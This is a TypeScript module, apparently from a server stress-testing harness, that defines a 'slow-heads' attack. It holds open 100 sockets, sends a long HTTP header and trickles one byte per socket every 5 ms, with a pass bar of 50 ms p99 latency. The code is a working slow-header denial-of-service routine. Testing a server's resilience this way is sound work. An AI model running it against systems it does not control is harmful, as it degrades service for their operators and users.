import type { Socket } from "node:net";
import type { Attack } from "./attack.ts";
import { holdConnections } from "./connections.ts";

/** Together, the connections send 20,000 segments a second. */
const CONNECTIONS = 100;
const INTERVAL_MS = 5;
/** A long head makes it costly to look at all of it again. */
const START = `GET /v1/pets HTTP/1.1\r\nHost: x\r\nX-Long: ${"x".repeat(8_192)}`;

export const slowHeads: Attack = {
  name: "slow-heads",
  title: "heads byte by byte, 20,000 segments a second",
  bars: { p99Ms: 50 },
  async run(target, signal) {
    const sockets = new Set<Socket>();
    const timer = setInterval(() => {
      for (const socket of sockets) if (socket.writable) socket.write("x");
    }, INTERVAL_MS);
    const onOpen = (socket: Socket) => {
      socket.setNoDelay(true);
      socket.on("data", () => {});
      socket.on("close", () => sockets.delete(socket));
      socket.write(START);
      sockets.add(socket);
    };
    await holdConnections(target, { count: CONNECTIONS, perAddress: 100, reconnects: true, onOpen }, signal);
    clearInterval(timer);
  },
};
